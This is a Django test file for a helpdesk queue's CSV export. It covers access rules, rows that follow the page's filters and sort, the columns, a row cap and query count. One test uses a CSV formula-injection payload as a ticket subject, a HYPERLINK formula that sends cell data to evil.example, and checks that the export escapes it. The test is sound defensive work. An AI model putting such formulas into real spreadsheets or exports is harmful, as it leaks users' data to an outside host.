"""A queue as CSV: who may export it, the tickets it holds (those the user may see, with the
page's filters, search and sort), its columns, formula injection neutralised, the cap, and a
cost in queries that does not grow with the rows."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from agents.views import queues
from tests.factories import AgentFactory
from tickets import services
from tickets.reports.csvexport import BOM

HEADER = [
    "Number",
    "Subject",
    "Stage",
    "Requester",
    "Requester email",
    "Department",
    "Team",
    "Assigned to",
    "Priority",
    "Created",
    "Last activity",
    "First response due",
    "Resolution due",
]


def export_url(key: str = "all", **params: str) -> str:
    url = reverse("agents:queue_export", args=[key])
    return url + ("?" + "&".join(f"{k}={v}" for k, v in params.items()) if params else "")


def read_csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith(BOM)
    assert "\n" not in text.replace("\r\n", "")  # CRLF line ends only (no multi-line cell here)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


@pytest.fixture
def hidden(lab, new_ticket):
    """A ticket in SysAdmins, which John (Support) may not see."""
    ticket = new_ticket(subject="Rack 4 is on fire")
    services.ticket_update_properties(ticket=ticket, actor=lab.jane, department=lab.sysadmins)
    return ticket


# -- who may export ------------------------------------------------------------------------------


def test_an_anonymous_visitor_is_sent_to_the_console_sign_in(client, lab, ticket):
    response = client.get(export_url())
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("agents:login") + "?next=")
    assert ticket.subject not in response.content.decode()


def test_a_requester_is_sent_to_the_console_sign_in(client, lab, ticket):
    client.force_login(lab.karen)
    response = client.get(export_url())
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("agents:login") + "?next=")
    assert ticket.subject not in response.content.decode()


def test_a_staff_user_without_the_view_permission_is_refused(client, lab, ticket):
    user = AgentFactory(username="norole", role="Agent", departments=[lab.support])
    user.groups.clear()  # staff, but in no role: no ticket permission
    client.force_login(user)
    assert client.get(export_url()).status_code == 403


def test_a_view_only_agent_reads_the_queue_but_takes_no_export(client, lab, ticket, hidden):
    """Issue 17: a View Only agent is refused every export; the queue page offers none."""
    client.force_login(AgentFactory(username="viewer", role="View Only", departments=[lab.support]))
    assert client.get(export_url()).status_code == 403
    page = client.get(reverse("agents:queue", args=["all"]))
    assert page.status_code == 200 and b"queue-export" not in page.content


def test_the_queue_page_offers_the_export_to_an_agent(john):
    assert b"queue-export" in john.get(reverse("agents:queue", args=["all"])).content


@pytest.mark.parametrize("who", ["john", "jane"])
def test_agents_supervisors_and_admins_get_the_tickets_they_may_see_only(lab, ticket, hidden, who, request):
    rows = read_csv(request.getfixturevalue(who).get(export_url()))
    assert rows[0] == HEADER
    numbers = {row[0] for row in rows[1:]}
    if who == "john":
        assert numbers == {ticket.number}
    else:  # Jane, Supreme Admin, sees every ticket
        assert numbers == {ticket.number, hidden.number}


def test_an_unknown_queue_is_404(john):
    assert john.get(export_url("everything")).status_code == 404


# -- what it holds -------------------------------------------------------------------------------


def test_a_row_holds_the_tickets_columns(lab, john, ticket):
    services.ticket_claim(ticket=ticket, actor=lab.john)
    ticket.refresh_from_db()
    rows = read_csv(john.get(export_url()))
    assert rows[1] == [
        ticket.number,
        ticket.subject,
        "Assigned",
        "Karen",
        "karen@example.com",
        "Support",
        "",
        "John Doe",
        ticket.priority.name,
        ticket.created_at.isoformat(timespec="seconds"),
        ticket.last_activity_at.isoformat(timespec="seconds"),
        ticket.first_response_due.isoformat(timespec="seconds"),
        ticket.resolution_due.isoformat(timespec="seconds"),
    ]


def test_a_subject_that_is_a_formula_is_neutralised(john, new_ticket):
    bad = new_ticket(subject='=HYPERLINK("http://evil.example/?"&A1,"Click me")')
    minus = new_ticket(subject="-5 degrees in the server room")
    rows = {row[0]: row for row in read_csv(john.get(export_url()))[1:]}
    assert rows[bad.number][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    assert rows[minus.number][1] == "'-5 degrees in the server room"


def _page_numbers(client, key: str, params: dict[str, str]) -> list[str]:
    page = client.get(reverse("agents:queue", args=[key]), params).content.decode()
    return re.findall(r'<td class="font-monospace"><a href="[^"]*">#(\d+)</a></td>', page)


@pytest.mark.parametrize(
    "params",
    [
        {"sort": "number"},
        {"sort": "oldest"},
        {"sort": "priority"},
        {"q": "printer"},
        {"state": "assigned", "sort": "number"},
        {"priority": "{high}", "sort": "oldest"},
    ],
    ids=["number", "oldest", "priority", "search", "stage", "priority-filter"],
)
def test_the_export_has_the_pages_tickets_in_the_pages_order(lab, john, new_ticket, params):
    from tickets.models import Priority

    high = Priority.objects.get(name="High")
    made = [new_ticket(subject=f"Printer {n} jams" if n % 2 else f"Screen {n} flickers") for n in range(6)]
    for n, ticket in enumerate(made):
        if n % 3 == 0:
            services.ticket_claim(ticket=ticket, actor=lab.john)
        if n % 2 == 0:
            services.ticket_update_properties(ticket=ticket, actor=lab.john, priority=high)
    filled = {k: v.format(high=high.pk) for k, v in params.items()}
    on_page = _page_numbers(john, "all", filled)
    exported = [row[0] for row in read_csv(john.get(export_url("all", **filled)))[1:]]
    assert on_page, "the filters must leave some tickets"
    assert len(on_page) < len(made) or "sort" in params and len(params) == 1
    assert exported == on_page


def test_each_queue_exports_its_own_tickets(lab, john, new_ticket):
    mine, open_one = new_ticket(subject="Mine"), new_ticket(subject="Nobody's")
    services.ticket_claim(ticket=mine, actor=lab.john)
    assert [row[0] for row in read_csv(john.get(export_url("mine")))[1:]] == [mine.number]
    assert [row[0] for row in read_csv(john.get(export_url("unassigned")))[1:]] == [open_one.number]


def test_past_the_cap_a_last_line_says_where_it_stopped(monkeypatch, john, new_ticket):
    for n in range(4):
        new_ticket(subject=f"Ticket {n}")
    monkeypatch.setattr(queues, "EXPORT_CAP", 3)
    monkeypatch.setattr(queues, "EXPORT_BATCH", 2)
    rows = read_csv(john.get(export_url(sort="number")))
    assert len(rows) == 1 + 3 + 1
    assert rows[-1] == ["Only the first 3 tickets are here: narrow the filters for the rest."]
    # At the cap exactly, nothing is said.
    monkeypatch.setattr(queues, "EXPORT_CAP", 4)
    rows = read_csv(john.get(export_url(sort="number")))
    assert len(rows) == 1 + 4 and rows[-1][0].isdigit()


def test_the_queries_do_not_grow_with_the_rows(lab, john, new_ticket, monkeypatch):
    monkeypatch.setattr(queues, "EXPORT_BATCH", 5)  # several batches, each from the catalog

    def count() -> tuple[int, int]:
        with CaptureQueriesContext(connection) as queries:
            rows = read_csv(john.get(export_url()))
        return len(queries), len(rows) - 1

    for n in range(3):
        ticket = new_ticket(subject=f"Ticket {n}")
    services.ticket_claim(ticket=ticket, actor=lab.john)
    few, three = count()
    for n in range(20):
        ticket = new_ticket(subject=f"More {n}")
        if n % 4 == 0:
            services.ticket_claim(ticket=ticket, actor=lab.john)
    many, twenty_three = count()
    assert (three, twenty_three) == (3, 23)
    assert many == few


def test_the_queue_page_links_to_its_export_with_its_filters(john, ticket):
    page = john.get(reverse("agents:queue", args=["all"]), {"state": "open", "sort": "number", "page": "1"})
    html = page.content.decode()
    link = re.search(r'<a class="[^"]*queue-export[^"]*" href="([^"]+)"', html)
    assert link, "no export link"
    assert link.group(1).replace("&amp;", "&") == export_url("all", state="open", sort="number")
    assert ">Export CSV<" in html
